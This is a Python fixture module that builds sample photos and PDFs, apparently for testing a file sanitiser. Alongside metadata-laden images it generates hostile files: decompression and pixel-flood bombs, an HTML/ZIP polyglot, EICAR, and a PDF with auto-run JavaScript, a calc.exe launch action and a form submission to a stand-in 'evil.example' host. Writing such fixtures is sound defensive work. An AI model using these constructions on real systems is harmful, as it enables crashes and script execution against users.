"""Files as people send them and as attackers make them, drawn up here so that none is kept."""

import struct
import zlib
from io import BytesIO

import pikepdf
from PIL import Image

GPS = {1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 12.0)}
SECRET = "Siti Aminah"
SCRIPT = b"<script>alert(document.domain)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def photo(width: int = 64, height: int = 48, form: str = "JPEG", *, sideways: bool = False) -> bytes:
    """A photo of a telephone: with place, author and a comment; `sideways` as it lies when held upright."""
    picture, exif, made = Image.new("RGB", (width, height), (180, 30, 40)), Image.Exif(), BytesIO()
    exif[0x013B], exif[0x0112] = SECRET, 6 if sideways else 1
    exif.get_ifd(0x8825).update(GPS)
    more = {"comment": SECRET.encode()} if form == "JPEG" else {}
    picture.save(made, form, exif=exif, **more)
    return made.getvalue()


def see_through(form: str = "PNG") -> bytes:
    made = BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(made, form)
    return made.getvalue()


def palette() -> bytes:
    """A screen with few colours, one of which is none."""
    made = BytesIO()
    Image.new("P", (8, 8)).save(made, "PNG", transparency=0)
    return made.getvalue()


def flood() -> bytes:
    """A few hundred bytes that would be 40,000 by 40,000 pixels."""
    head = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A small picture whose comment unfolds to 200 MB."""
    whole = photo(form="PNG")
    bomb = _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(200_000_000), 9))
    return whole[:33] + bomb + whole[33:]


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def gif() -> bytes:
    made = BytesIO()
    Image.new("P", (4, 4)).save(made, "GIF")
    return made.getvalue()


def polyglot(whole: bytes) -> bytes:
    """A file that is a page and an archive, too, for whoever reads it so."""
    return whole + SCRIPT + b"PK\x03\x04evil.exePK\x05\x06" + bytes(18)


def pdf(pages: int = 1) -> pikepdf.Pdf:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(300, 400))
    made.docinfo["/Author"] = SECRET
    return made


def saved(made: pikepdf.Pdf, **how: object) -> bytes:
    out = BytesIO()
    made.save(out, **how)  # type: ignore[arg-type] # handed through
    return out.getvalue()


def letter(pages: int = 1) -> bytes:
    return saved(pdf(pages))


def locked(user: str = "rahasia") -> bytes:
    """A PDF behind a password; with "" it opens, and only forbids printing."""
    return saved(pdf(), encryption=pikepdf.Encryption(owner="kantor", user=user))


def acting() -> bytes:
    """A PDF that runs a script when it opens, starts a program, sends a form, and has a program inside."""
    made = pdf()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    sent = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    made.Root.OpenAction = made.make_indirect(script)
    made.Root.AA = pikepdf.Dictionary(WC=script)
    made.pages[0].AA = pikepdf.Dictionary(O=launch)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    form = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9], A=sent)
    inside = pikepdf.Stream(made, b"MZ program")
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("evil.exe"), EF=pikepdf.Dictionary(F=inside))
    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    form = made.make_indirect(form)
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[form])
    made.pages[0].Annots = pikepdf.Array([link, form, made.make_indirect(clip)])
    names = pikepdf.Dictionary(Names=[pikepdf.String("evil.exe"), made.make_indirect(spec)])
    scripts = pikepdf.Dictionary(Names=[pikepdf.String("x"), script])
    made.Root.Names = pikepdf.Dictionary(EmbeddedFiles=names, JavaScript=scripts)
    with made.open_metadata() as told:
        told["dc:creator"] = [SECRET]
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)


def pdf_bomb() -> bytes:
    """A PDF whose list of objects unfolds to 1.5 GB."""
    packer, packed = zlib.compressobj(9), b""
    for _ in range(1500):
        packed += packer.compress(bytes(1_000_000))
    packed += packer.flush()
    head = f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode()
    body = b"%PDF-1.5\n1 0 obj\n" + head + packed + b"\nendstream\nendobj\n"
    rows = struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 1, 9, 0) + struct.pack(">BHB", 2, 1, 0)
    index = f"<< /Type /XRef /Size 3 /W [1 2 1] /Root 2 0 R /Length {len(rows)} >>\nstream\n".encode()
    return body + b"3 0 obj\n" + index + rows + f"\nendstream\nendobj\nstartxref\n{len(body)}\n%%EOF".encode()


def loop() -> bytes:
    """A PDF whose pages are inside themselves."""
    made = pdf()
    made.Root.Pages.Kids = pikepdf.Array([made.Root.Pages])
    return saved(made)
